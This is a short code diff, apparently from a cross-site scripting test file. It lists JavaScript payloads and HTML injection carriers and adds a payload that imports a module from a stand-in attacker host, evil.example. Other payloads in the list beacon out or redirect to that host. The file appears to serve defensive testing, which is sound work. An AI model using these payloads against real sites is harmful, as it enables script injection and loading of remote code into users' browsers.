@@ -39,7 +39,7 @@ RARE = "quokka"  # in every paper, so that one search shows them all
 EVIL = "http://evil.example"
 SCRIPTS = (
     "alert(1)", f"fetch('{EVIL}/f')", f"new Image().src='{EVIL}/i'", f"location='{EVIL}/l'",
-    "window.pwned=1",
+    "window.pwned=1", f"import('{EVIL}/m')",
 )  # fmt: skip
 CARRIERS = (
     "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
